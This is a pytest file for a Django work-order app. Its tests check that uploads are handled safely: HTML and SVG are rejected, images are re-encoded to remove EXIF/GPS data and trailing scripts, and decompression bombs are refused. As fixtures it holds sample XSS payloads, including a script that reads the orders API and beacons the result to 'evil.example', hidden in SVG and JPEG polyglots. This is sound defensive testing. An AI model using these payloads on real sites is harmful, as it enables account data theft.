"""Safe uploads (issue 12, defect 15; R8.1): HTML and SVG refused whatever their name, images
re-encoded so that only pixels are stored, the stored name's extension that of the real type."""

from __future__ import annotations

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from jiesu.orders.models import Attachment, OrderEvent, WorkOrder

pytestmark = pytest.mark.django_db

SCRIPT = (
    b"<script>fetch('/api/v1/orders/').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>"
)
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/>'
    + SCRIPT
    + b"</svg>"
)
# No doctype or declaration up front: plain words first, then the markup, past the first 8 KiB.
PADDED_SVG = "路灯坏了，附上现场说明。\n".encode() * 400 + SVG


def image_bytes(fmt: str, size=(40, 30), mode="RGB", exif: Image.Exif | None = None, **save) -> bytes:
    out = io.BytesIO()
    image = Image.new(mode, size, (200, 40, 40, 255)[: len(mode)])
    if exif is not None:
        save["exif"] = exif
    image.save(out, format=fmt, **save)
    return out.getvalue()


def gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x8825] = {1: "N", 2: (39.0, 59.0, 30.0), 3: "E", 4: (116.0, 28.0, 10.0)}  # GPSInfo: where it was taken
    if orientation:
        exif[0x0112] = orientation
    return exif


def upload(name: str, data: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.mark.parametrize(
    "name, data",
    [
        ("photo.jpg", HTML),
        ("drawing.svg", SVG),
        ("现场说明.txt", PADDED_SVG),
        ("page.htm", b"\xef\xbb\xbf<HTML><BODY onload=alert(1)>hi</BODY></HTML>"),
        ("data.xml", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
    ],
    ids=["html-as-jpg", "svg", "svg-after-8KiB-of-text", "html-with-bom", "xml"],
)
def test_html_and_svg_are_refused_whatever_their_name_and_nothing_is_written(make_order, name, data):
    before = (WorkOrder.objects.count(), OrderEvent.objects.count(), Attachment.objects.count())
    with pytest.raises(ValidationError) as exc:
        make_order(attachments=[upload(name, data)])
    message = exc.value.message_dict["attachments"][0]
    assert name in message and "网页、SVG" in message
    assert (WorkOrder.objects.count(), OrderEvent.objects.count(), Attachment.objects.count()) == before


def test_plain_text_is_kept_and_stored_under_the_extension_of_its_real_type(make_order):
    text = "楼下烧烤店每晚营业到凌晨两点，油烟和噪音都很大 (>_<)，温度 < 0 度也照样开。\n".encode()
    order = make_order(attachments=[upload("说明.svg", text, "image/svg+xml")])
    attachment = order.attachments.get()
    assert attachment.content_type == "text/plain" and attachment.kind == "document"
    assert attachment.file.name.endswith(".txt") and attachment.original_name == "说明.svg"
    assert attachment.file.read() == text


def test_text_that_is_utf8_only_at_its_start_is_refused(make_order):
    data = b"Street lamp broken since Monday.\n" * 500 + b"\x00\x01\x02\xff\xfe binary tail"  # 16 KiB of text first
    with pytest.raises(ValidationError) as exc:
        make_order(attachments=[upload("a.txt", data, "text/plain")])
    assert "a.txt" in exc.value.message_dict["attachments"][0]


def test_jpeg_is_reencoded_so_only_pixels_are_stored(make_order):
    original = image_bytes("JPEG", exif=gps_exif()) + b"\n" + HTML  # a polyglot: a JPEG with a page after it
    assert Image.open(io.BytesIO(original)).getexif()  # the test's own file does carry EXIF
    order = make_order(attachments=[upload("现场.jpg", original)])
    attachment = order.attachments.get()
    stored = attachment.file.read()
    assert stored != original and b"<script" not in stored and b"PhoneMaker" not in stored
    assert attachment.size == len(stored) and attachment.content_type == "image/jpeg"
    assert attachment.file.name.endswith(".jpg")
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG" and image.size == (40, 30)
        assert not image.getexif()  # no GPS, no camera
        r, g, b = image.convert("RGB").getpixel((20, 15))
        assert abs(r - 200) < 8 and abs(g - 40) < 8 and abs(b - 40) < 8
    import hashlib

    assert attachment.sha256 == hashlib.sha256(stored).hexdigest()


def test_the_orientation_the_exif_asked_for_is_applied_to_the_pixels(make_order):
    original = image_bytes("JPEG", size=(40, 30), exif=gps_exif(orientation=6))  # "rotate 90° to show"
    stored = make_order(attachments=[upload("竖拍.jpg", original)]).attachments.get().file.read()
    with Image.open(io.BytesIO(stored)) as image:
        assert image.size == (30, 40) and not image.getexif()


def test_png_gif_and_webp_stay_in_their_format_and_animation_keeps_its_frames(make_order):
    frames = [Image.new("RGB", (16, 16), c) for c in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    gif = io.BytesIO()
    frames[0].save(
        gif,
        format="GIF",
        save_all=True,
        append_images=frames[1:],
        duration=[100, 200, 300],
        loop=0,
        comment=b"<script>alert(1)</script>",
    )
    files = [
        upload("a.png", image_bytes("PNG", mode="RGBA"), "image/png"),
        upload("b.gif", gif.getvalue(), "image/gif"),
        upload("c.webp", image_bytes("WEBP"), "image/webp"),
    ]
    order = make_order(attachments=files)
    stored = {a.content_type: a.file.read() for a in order.attachments.all()}
    assert set(stored) == {"image/png", "image/gif", "image/webp"}
    assert b"<script" in gif.getvalue()  # the GIF comment
    with Image.open(io.BytesIO(stored["image/gif"])) as image:
        assert image.n_frames == 3 and b"<script" not in stored["image/gif"]
    assert Image.open(io.BytesIO(stored["image/png"])).mode == "RGBA"


def test_an_image_that_does_not_decode_is_refused(make_order):
    truncated = image_bytes("PNG", size=(64, 64))[:60]
    with pytest.raises(ValidationError) as exc:
        make_order(attachments=[upload("坏图.png", truncated, "image/png")])
    assert "坏图.png" in exc.value.message_dict["attachments"][0] and "图片" in exc.value.message_dict["attachments"][0]


def test_a_decompression_bomb_is_refused(make_order, monkeypatch):
    # Pillow's own limit, lowered so that the test needs no 100-megapixel file.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    with pytest.raises(ValidationError) as exc:
        make_order(attachments=[upload("大图.png", image_bytes("PNG", size=(40, 30)), "image/png")])
    assert "像素过多" in exc.value.message_dict["attachments"][0]


def test_intake_screen_shows_the_refusal_next_to_the_attachments_R10_1(call_taker, client):
    client.force_login(call_taker)
    response = client.post(
        "/intake/",
        {
            "requester_phone": "13912340000",
            "requester_name": "周九",
            "requester_type": "natural",
            "channel": "phone",
            "source_line": "12345",
            "kind": "help",
            "location_text": "海淀区中关村街道",
            "content": "家门口的井盖丢了，晚上很危险。",
            "attachments": [upload("井盖.jpg", HTML)],
        },
    )
    html = response.content.decode()
    assert response.status_code == 200 and WorkOrder.objects.count() == 0
    assert 'id="error-attachments"' in html and "井盖.jpg" in html and "网页、SVG" in html


def test_the_stored_path_keeps_nothing_of_the_senders_file_name(make_order):
    # A file name is personal data too ("张三身份证.jpg"); only original_name keeps it.
    order = make_order(attachments=[upload("张三身份证.jpg", image_bytes("JPEG", size=(8, 8)), "image/jpeg")])
    attachment = order.attachments.get()
    assert "张三" not in attachment.file.name and attachment.original_name == "张三身份证.jpg"


def test_an_animation_counts_every_frame_against_the_pixel_limit(make_order, monkeypatch):
    frames = [Image.new("RGB", (20, 20), (i * 40, 0, 0)) for i in range(4)]
    out = io.BytesIO()
    frames[0].save(out, format="GIF", save_all=True, append_images=frames[1:], duration=100)
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)  # one frame (400) passes, four (1,600) do not
    with pytest.raises(ValidationError) as exc:
        make_order(attachments=[upload("动图.gif", out.getvalue(), "image/gif")])
    assert "像素过多" in exc.value.message_dict["attachments"][0]
